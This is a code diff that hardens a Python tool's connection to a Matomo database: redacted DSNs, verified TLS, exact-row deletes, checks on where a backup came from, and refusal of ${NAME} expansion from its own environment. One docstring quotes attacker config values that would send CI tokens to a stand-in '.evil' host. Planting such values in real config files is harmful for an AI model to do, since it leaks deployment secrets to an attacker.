@@ -34,6 +34,7 @@ from pathlib import Path
 from typing import TYPE_CHECKING, Any
 from urllib.parse import parse_qsl, unquote, urlsplit
 
+from oidcsetup.apps.matomo.dbconnect import TlsOptions
 from oidcsetup.apps.matomo.plan import Action, Plan, diff_settings
 from oidcsetup.errors import ApplyError, InputError, UnreachableError, UsageError
 from oidcsetup.fileio import atomic_write_bytes
@@ -48,6 +49,8 @@ DEFAULT_PREFIX = "matomo_"  # the Matomo installer's default [database] tables_p
 PREFIX_RE = re.compile(r"^[A-Za-z0-9_]*$")
 ENV_PREFIX = "OIDCSETUP_DB_"
 PASSWORD_ENV = "OIDCSETUP_DB_PASSWORD"
+# Names of variables a config.ini.php [database] ${NAME} may be filled from (comma-separated).
+CONFIG_ENV_ALLOW = "OIDCSETUP_DB_CONFIG_ENV"
 BACKUP_FORMAT = "oidcsetup-matomo-db-backup/1"
 # Where libmysqlclient/PDO look for the server's socket when the host is "localhost".
 DEFAULT_SOCKETS = ("/run/mysqld/mysqld.sock", "/var/run/mysqld/mysqld.sock", "/tmp/mysql.sock")
@@ -78,7 +81,7 @@ class DbSettings:
     unix_socket: str | None = None
     prefix: str = DEFAULT_PREFIX
     charset: str = "utf8mb4"
-    ssl: Mapping[str, Any] | None = None  # PyMySQL's ``ssl`` dict, None: no TLS
+    tls: TlsOptions | None = None  # None: no TLS
     connect_timeout: float = 5.0
     source: str = "dsn"  # "dsn", "config:<path>" or "env"
 
@@ -107,7 +110,7 @@ class DbSettings:
             "user": self.user,
             "database": self.database,
             "prefix": self.prefix,
-            "ssl": bool(self.ssl),
+            "ssl": bool(self.tls),
             "source": self.source,
         }
 
@@ -132,10 +135,21 @@ def _port(value: str, where: str) -> int:
 
 
 def _local_socket(host: str, socket: str | None) -> str | None:
-    """Like libmysqlclient/PDO: ``localhost`` without a port means the default local socket."""
+    """Like libmysqlclient/PDO: ``localhost`` without a port means the default local socket
+    (one nobody else could have planted: ``dbconnect.trusted_default_socket``)."""
+    from oidcsetup.apps.matomo.dbconnect import trusted_default_socket
+
     if socket or host != "localhost":
         return socket
-    return next((s for s in DEFAULT_SOCKETS if os.path.exists(s)), None)
+    return next((s for s in DEFAULT_SOCKETS if trusted_default_socket(s)), None)
+
+
+_DSN_PASSWORD_RE = re.compile(r"^(?P<head>[^:/?#]*://[^@/?#]*?):[^@/?#]*@")
+
+
+def redact_dsn(dsn: str) -> str:
+    """The DSN for a message: a ``user:password@`` keeps the user, the password becomes ***."""
+    return _DSN_PASSWORD_RE.sub(r"\g<head>:***@", dsn.strip())
 
 
 def parse_dsn(
@@ -147,32 +161,35 @@ def parse_dsn(
     """``mysql://user@host:port/db?prefix=matomo_&socket=/run/mysqld/mysqld.sock&ssl_ca=/ca.pem``.
 
     A password inside the DSN is refused (it would show in ``ps`` and shell history): it comes
-    from ``$OIDCSETUP_DB_PASSWORD``, else ``prompt`` (a terminal), else none.
+    from ``$OIDCSETUP_DB_PASSWORD``, else ``prompt`` (a terminal), else none. No message
+    repeats it (``redact_dsn``).
     Query parameters: prefix, socket (or unix_socket), charset, ssl (1), ssl_ca, ssl_cert,
-    ssl_key, ssl_verify (0 to skip certificate checks).
+    ssl_key, ssl_verify (0 to skip certificate and host name checks).
     """
     env = os.environ if environ is None else environ
     hint = "write it as mysql://USER@HOST:PORT/DATABASE (password in $OIDCSETUP_DB_PASSWORD)"
+    shown = redact_dsn(dsn)
     try:
         parts = urlsplit(dsn.strip())
         port_text = parts.netloc.rpartition("@")[2].rpartition("]")[2].partition(":")[2]
+        has_password = parts.password is not None
     except ValueError as exc:
         raise UsageError(f"malformed DSN: {exc}", hint=hint) from None
-    if parts.scheme not in ("mysql", "mariadb", "mysql+pymysql"):
-        raise UsageError(f"malformed DSN {dsn!r}: the scheme must be mysql://", hint=hint)
-    if parts.password is not None:
+    if has_password:
         raise UsageError(
             "the DSN contains a password; it would be visible in the process list and history",
             hint="remove it from the DSN and export OIDCSETUP_DB_PASSWORD instead",
         )
+    if parts.scheme not in ("mysql", "mariadb", "mysql+pymysql"):
+        raise UsageError(f"malformed DSN {shown!r}: the scheme must be mysql://", hint=hint)
     if parts.fragment:
-        raise UsageError(f"malformed DSN {dsn!r}: unexpected #fragment", hint=hint)
+        raise UsageError(f"malformed DSN {shown!r}: unexpected #fragment", hint=hint)
     try:
         query = dict(
             parse_qsl(parts.query, keep_blank_values=True, strict_parsing=bool(parts.query))
         )
     except ValueError:
-        raise UsageError(f"malformed DSN query string {parts.query!r}", hint=hint) from None
+        raise UsageError("malformed DSN query string (after the ?)", hint=hint) from None
     known = {
         "prefix",
         "socket",
@@ -192,25 +209,25 @@ def parse_dsn(
         )
     database = unquote(parts.path.lstrip("/"))
     if not database or "/" in database:
-        raise UsageError(f"malformed DSN {dsn!r}: no database name after the host", hint=hint)
+        raise UsageError(f"malformed DSN {shown!r}: no database name after the host", hint=hint)
     host = parts.hostname or ""
     socket = query.get("socket") or query.get("unix_socket") or None
     if not host and not socket:
-        raise UsageError(f"malformed DSN {dsn!r}: no host", hint=hint)
+        raise UsageError(f"malformed DSN {shown!r}: no host", hint=hint)
     port = _port(port_text, "the DSN") if port_text else DEFAULT_PORT
     if not port_text:
         socket = _local_socket(host, socket)
     password = env.get(PASSWORD_ENV)
     if password is None and prompt is not None:
         password = prompt()
-    ssl: dict[str, Any] | None = None
+    tls: TlsOptions | None = None
     if query.get("ssl", "0") not in ("", "0", "false") or any(
         k in query for k in ("ssl_ca", "ssl_cert", "ssl_key")
     ):
-        ssl = _ssl_options(
-            ca=query.get("ssl_ca"),
-            cert=query.get("ssl_cert"),
-            key=query.get("ssl_key"),
+        tls = TlsOptions(
+            ca=query.get("ssl_ca") or None,
+            cert=query.get("ssl_cert") or None,
+            key=query.get("ssl_key") or None,
             verify=query.get("ssl_verify", "1") not in ("0", "false", "no"),
         )
     return DbSettings(
@@ -222,31 +239,9 @@ def parse_dsn(
         unix_socket=socket,
         prefix=query.get("prefix", env.get(ENV_PREFIX + "PREFIX", DEFAULT_PREFIX)),
         charset=query.get("charset") or "utf8mb4",
-        ssl=ssl,
+        tls=tls,
         source="dsn",
     )
-
-
-def _ssl_options(
-    *,
-    ca: str | None,
-    cert: str | None,
-    key: str | None,
-    verify: bool,
-    capath: str | None = None,
-    cipher: str | None = None,
-) -> dict[str, Any]:
-    options: dict[str, Any] = {"check_hostname": verify, "verify_mode": verify}
-    for name, value in (
-        ("ca", ca),
-        ("cert", cert),
-        ("key", key),
-        ("capath", capath),
-        ("cipher", cipher),
-    ):
-        if value:
-            options[name] = value
-    return options
 
 
 def settings_from_env(
@@ -318,14 +313,37 @@ def resolve_db_settings(
 def settings_from_matomo_config(path: Path, environ: Mapping[str, str] | None = None) -> DbSettings:
     """Connection settings as Matomo itself uses them (``core/Db/Adapter.php`` and ``Db.php``).
 
-    The file is read by configfile.py (entities decoded, ``${NAME}`` expanded as PHP does);
-    ``port = /path/to/socket`` means a unix socket; a missing ``tables_prefix`` is the empty
-    prefix of ``global.ini.php``. ``$OIDCSETUP_DB_PASSWORD``, when set, wins over the file.
+    The file is read by configfile.py (entities decoded); ``port = /path/to/socket`` means a
+    unix socket; a missing ``tables_prefix`` is the empty prefix of ``global.ini.php``.
+    ``$OIDCSETUP_DB_PASSWORD``, when set, wins over the file.
+
+    A ``${NAME}`` in ``[database]`` is NOT filled from our environment: PHP fills it from the
+    web server's environment, and ours is root's or CI's, so whoever may write config.ini.php
+    could make us send any of our variables to a server of theirs (``host = "${TOKEN}.evil"``,
+    ``password = "${CI_DEPLOY_TOKEN}"``). Such a value is refused with a one-line error, unless
+    the user names the variable in ``$OIDCSETUP_DB_CONFIG_ENV`` (comma-separated): an
+    explicit, per-variable opt-in, so a later edit of the file cannot reach other variables.
+    A reference in ``password`` is harmless when ``$OIDCSETUP_DB_PASSWORD`` replaces it.
     """
     from oidcsetup.apps.matomo.configfile import MatomoConfig
 
     env = os.environ if environ is None else environ
-    db = MatomoConfig.load(path).database(env)
+    password = env.get(PASSWORD_ENV)
+    config = MatomoConfig.load(path)
+    allowed = {n.strip() for n in env.get(CONFIG_ENV_ALLOW, "").split(",") if n.strip()}
+    for key, value in config.document.values("database").items():
+        if key == "password" and password is not None:
+            continue
+        for name in value.env_refs:
+            if name not in allowed:
+                raise InputError(
+                    f"{path}: [database] {key} refers to ${{{name}}}, which oidcsetup does not "
+                    "fill from its own environment (anyone who can write that file could read "
+                    "our variables)",
+                    hint=f"give the connection with --dsn / OIDCSETUP_DB_*, or allow this "
+                    f"variable: {CONFIG_ENV_ALLOW}={name}",
+                )
+    db = config.database({n: env[n] for n in allowed if n in env})
     if not db.dbname:
         raise InputError(
             f"{path}: [database] names no dbname",
@@ -335,9 +353,9 @@ def settings_from_matomo_config(path: Path, environ: Mapping[str, str] | None = 
     socket = db.unix_socket
     if socket is None and host.startswith("/"):
         socket = host
-    ssl: dict[str, Any] | None = None
+    tls: TlsOptions | None = None
     if db.enable_ssl:
-        ssl = _ssl_options(
+        tls = TlsOptions(
             ca=db.ssl_ca,
             cert=db.ssl_cert,
             key=db.ssl_key,
@@ -345,7 +363,6 @@ def settings_from_matomo_config(path: Path, environ: Mapping[str, str] | None = 
             cipher=db.ssl_cipher,
             verify=not db.ssl_no_verify,
         )
-    password = env.get(PASSWORD_ENV)
     return DbSettings(
         database=db.dbname,
         user=db.username or "root",
@@ -355,7 +372,7 @@ def settings_from_matomo_config(path: Path, environ: Mapping[str, str] | None = 
         unix_socket=socket,
         prefix=db.tables_prefix,
         charset=db.charset or "utf8mb4",
-        ssl=ssl,
+        tls=tls,
         source=f"config:{path}",
     )
 
@@ -389,6 +406,9 @@ class StoredRow:
     name: str
     value: str
     json_encoded: int = 0
+    # The row's primary key (Matomo 3.6+), None for rows not read from the table: the write
+    # deletes exactly the rows it read, by key (see ``MatomoDatabase._replace_rows``).
+    id: int | None = field(default=None, compare=False)
 
     def to_json(self) -> dict[str, Any]:
         return {
@@ -511,11 +531,22 @@ class MatomoDatabase:
 
     @classmethod
     def connect(cls, settings: DbSettings) -> MatomoDatabase:
+        """Open the connection: TLS verified as ``dbconnect.tls_context`` builds it, and an
+        authentication that never hands the password to an unverified server
+        (``dbconnect.guarded_auth_plugins``)."""
         import pymysql
+
+        from oidcsetup.apps.matomo.dbconnect import (
+            guarded_auth_plugins,
+            guarded_connection_class,
+            tls_context,
+        )
 
         kwargs: dict[str, Any] = {
             "user": settings.user,
-            "password": settings.password or "",
+            # As bytes: PyMySQL would encode a str as Latin-1 (failing on other characters);
+            # PHP's PDO sends the UTF-8 bytes of the config file's string, so do we.
+            "password": (settings.password or "").encode("utf-8"),
             "database": settings.database,
             "charset": settings.charset,
             "connect_timeout": settings.connect_timeout,
@@ -523,21 +554,26 @@ class MatomoDatabase:
             "write_timeout": 60,
             "autocommit": True,
             "local_infile": False,
+            "auth_plugin_map": guarded_auth_plugins(),
         }
         if settings.unix_socket:
             kwargs["unix_socket"] = settings.unix_socket
         else:
             kwargs["host"] = settings.host
             kwargs["port"] = settings.port
-        if settings.ssl:
-            kwargs["ssl"] = dict(settings.ssl)
+        if settings.tls:
+            kwargs["ssl"] = tls_context(settings.tls)
+        # Without TLS options PyMySQL still uses TLS when the server offers it, unverified
+        # ("preferred"): kept, it hides the traffic from passive listeners.
         try:
-            connection = pymysql.connect(**kwargs)
+            connection = guarded_connection_class()(**kwargs)
         except pymysql.err.MySQLError as exc:
             raise _connect_error(exc, settings) from None
         except (OSError, ValueError) as exc:
+            # Never the exception's text for a ValueError: it may quote the credentials.
+            reason = exc.strerror or str(exc) if isinstance(exc, OSError) else type(exc).__name__
             raise UnreachableError(
-                f"cannot connect to the database at {settings.where}: {exc}",
+                f"cannot connect to the database at {settings.where}: {reason}",
                 hint="check host, port or socket, and that the server is running",
             ) from None
         return cls(settings, connection)
@@ -623,17 +659,27 @@ class MatomoDatabase:
     def _select_rows_sql(self, for_update: bool = False) -> str:
         schema = self.schema()
         json_col = "`json_encoded`" if schema.json_encoded else "0"
+        id_col = "`idplugin_setting`" if schema.has_id else "NULL"
         order = " ORDER BY `idplugin_setting`" if schema.has_id else ""
         lock = " FOR UPDATE" if for_update else ""
         return (
-            f"SELECT `setting_name`, `setting_value`, {json_col} FROM {self.settings.table('plugin_setting')} "
+            f"SELECT `setting_name`, `setting_value`, {json_col}, {id_col} "
+            f"FROM {self.settings.table('plugin_setting')} "
             f"WHERE `plugin_name` = %s AND `user_login` = ''{order}{lock}"
         )
 
-    def read_rows(self) -> list[StoredRow]:
-        """The plugin's system-setting rows, as PluginSettingsTable::load selects them."""
-        rows = self._query(self._select_rows_sql(), (PLUGIN,))
-        return [StoredRow(str(n), _text(v), int(j or 0)) for n, v, j in rows]
+    def read_rows(self, *, for_update: bool = False) -> list[StoredRow]:
+        """The plugin's system-setting rows, as PluginSettingsTable::load selects them.
+
+        The WHERE is Matomo's own (``plugin_name = ? and user_login = ?`` under the table's
+        collation), so what we read is what Matomo reads; names are then compared exactly, in
+        Python, as PHP compares array keys.
+        """
+        rows = self._query(self._select_rows_sql(for_update), (PLUGIN,))
+        return [
+            StoredRow(str(n), _text(v), int(j or 0), None if i is None else int(i))
+            for n, v, j, i in rows
+        ]
 
     def read_settings(self) -> dict[str, str]:
         return flatten_rows(self.read_rows())
@@ -717,14 +763,27 @@ class MatomoDatabase:
             ) from None
 
     def _replace_rows(
-        self, names: Collection[str], rows: list[StoredRow], hook: Callable[[str], None] | None
+        self, old: Collection[StoredRow], rows: list[StoredRow], hook: Callable[[str], None] | None
     ) -> None:
-        """DELETE every row of ``names``, then INSERT ``rows``: two statements, any count."""
+        """DELETE exactly the rows ``old`` (read under the lock), then INSERT ``rows``: two
+        statements, any count.
+
+        By primary key where the table has one (Matomo 3.6+). Comparing names in SQL would use
+        the column's collation (utf8mb4_general_ci: ``clientsecret`` = ``clientSecret``,
+        ``clientId `` = ``clientId``) and delete rows the plan never showed. Tables without a
+        key (before 3.6) are matched by the exact bytes of the name (``BINARY``).
+        """
         table = self.settings.table("plugin_setting")
-        if names:
+        ids = [r.id for r in old if r.id is not None]
+        if ids and len(ids) == len(old):
+            marks = ", ".join(["%s"] * len(ids))
+            self._query(f"DELETE FROM {table} WHERE `idplugin_setting` IN ({marks})", ids)
+        elif old:
+            names = sorted({r.name for r in old})
             marks = ", ".join(["%s"] * len(names))
             self._query(
-                f"DELETE FROM {table} WHERE `plugin_name` = %s AND `user_login` = '' AND `setting_name` IN ({marks})",
+                f"DELETE FROM {table} WHERE `plugin_name` = %s AND `user_login` = '' "
+                f"AND BINARY `setting_name` IN ({marks})",
                 (PLUGIN, *names),
             )
         if hook:
@@ -767,23 +826,30 @@ class MatomoDatabase:
         known: Collection[str] | None = None,
         backup_dir: Path | None = None,
         hook: Callable[[str], None] | None = None,
+        expected: Plan | None = None,
     ) -> ApplyResult:
         """Write the desired settings in one transaction; a backup of the previous rows first.
 
         The plan is recomputed under the lock from the rows as they are then, so two applies at
         once end in one consistent state and an apply with nothing to change writes nothing
-        (no backup, no DELETE/INSERT). ``hook(stage)`` is called after "deleted" and "inserted"
-        (used by tests to inject faults).
+        (no backup, no DELETE/INSERT). With ``expected`` (the plan the user was shown), a
+        different plan under the lock writes nothing (ApplyError): the write does exactly what
+        was shown. Only rows of the settings the plan changes are replaced, matched by their
+        exact name. ``hook(stage)`` is called after "deleted" and "inserted" (used by tests to
+        inject faults).
         """
         check_names(desired, known)
 
         def work() -> ApplyResult:
             with self._transaction():
-                rows = [
-                    StoredRow(str(n), _text(v), int(j or 0))
-                    for n, v, j in self._query(self._select_rows_sql(for_update=True), (PLUGIN,))
-                ]
+                rows = self.read_rows(for_update=True)
                 plan = self._plan(rows, desired, prune)
+                if expected is not None and plan.changes != expected.changes:
+                    raise ApplyError(
+                        "the LoginOIDC rows in the database changed since the plan was made: "
+                        "nothing was written",
+                        hint="run the command again to see the new plan",
+                    )
                 if plan.in_sync:
                     return ApplyResult(plan, written=False)
                 backup = (
@@ -791,9 +857,9 @@ class MatomoDatabase:
                     if backup_dir is not None
                     else None
                 )
-                names = [c.setting for c in plan.pending]
+                names = {c.setting for c in plan.pending}
                 new_rows = [StoredRow(c.setting, c.new) for c in plan.pending if c.new is not None]
-                self._replace_rows(names, new_rows, hook)
+                self._replace_rows([r for r in rows if r.name in names], new_rows, hook)
                 return ApplyResult(plan, written=True, backup=backup)
 
         return self._retrying(work)
@@ -804,20 +870,19 @@ class MatomoDatabase:
         *,
         backup_dir: Path | None = None,
         hook: Callable[[str], None] | None = None,
+        force: bool = False,
     ) -> ApplyResult:
         """Put back exactly the rows saved in ``backup`` (all of the plugin's system settings).
 
         With ``backup_dir``, the rows being replaced are saved there first, as ``apply`` does, so
-        a restore can be undone too.
+        a restore can be undone too. A backup of another database or table prefix is refused
+        unless ``force`` (``backup_rows``).
         """
-        saved = read_backup(backup)
+        saved = self.backup_rows(backup, force=force)
 
         def work() -> ApplyResult:
             with self._transaction():
-                rows = [
-                    StoredRow(str(n), _text(v), int(j or 0))
-                    for n, v, j in self._query(self._select_rows_sql(for_update=True), (PLUGIN,))
-                ]
+                rows = self.read_rows(for_update=True)
                 plan = diff_settings(
                     flatten_rows(rows), flatten_rows(saved), prune=True, target=self.target
                 )
@@ -831,11 +896,23 @@ class MatomoDatabase:
                     if backup_dir is not None
                     else None
                 )
-                names = sorted({r.name for r in rows} | {r.name for r in saved})
-                self._replace_rows(names, new_rows, hook)
+                self._replace_rows(rows, new_rows, hook)
                 return ApplyResult(plan, written=True, backup=previous)
 
         return self._retrying(work)
+
+    def backup_rows(self, backup: Path, *, force: bool = False) -> list[StoredRow]:
+        """The rows of ``backup``, refused (unless ``force``) when it was taken from another
+        database or table prefix: restoring it would copy another Matomo's settings here."""
+        saved = load_backup(backup)
+        table = f"{self.settings.prefix}plugin_setting"
+        if (saved.database, saved.table) != (self.settings.database, table) and not force:
+            raise InputError(
+                f"{backup} was taken from {saved.database}.{saved.table}, not "
+                f"{self.settings.database}.{table}",
+                hint="check --dsn/--from-config (or the backup); --force restores it here anyway",
+            )
+        return saved.rows
 
     # --- plugin state and account links -----------------------------------------------------
 
@@ -1062,8 +1139,22 @@ def write_backup(settings: DbSettings, rows: Collection[StoredRow], directory: P
     return path
 
 
+@dataclass(frozen=True)
+class Backup:
+    """A backup written by ``write_backup``: the rows, and where they were taken from."""
+
+    rows: list[StoredRow]
+    database: str | None
+    table: str | None
+
+
 def read_backup(path: Path) -> list[StoredRow]:
     """The rows of a backup written by ``write_backup`` (InputError for anything else)."""
+    return load_backup(path).rows
+
+
+def load_backup(path: Path) -> Backup:
+    """A backup written by ``write_backup`` (InputError for anything else)."""
     try:
         document = json.loads(Path(path).read_text(encoding="utf-8"))
     except FileNotFoundError:
@@ -1092,4 +1183,9 @@ def read_backup(path: Path) -> list[StoredRow]:
         if not isinstance(name, str) or not isinstance(value, str) or encoded not in (0, 1):
             raise InputError(f"{path}: malformed row {item!r}")
         rows.append(StoredRow(name, value, int(encoded)))
-    return rows
+    database, table = document.get("database"), document.get("table")
+    return Backup(
+        rows,
+        database if isinstance(database, str) else None,
+        table if isinstance(table, str) else None,
+    )
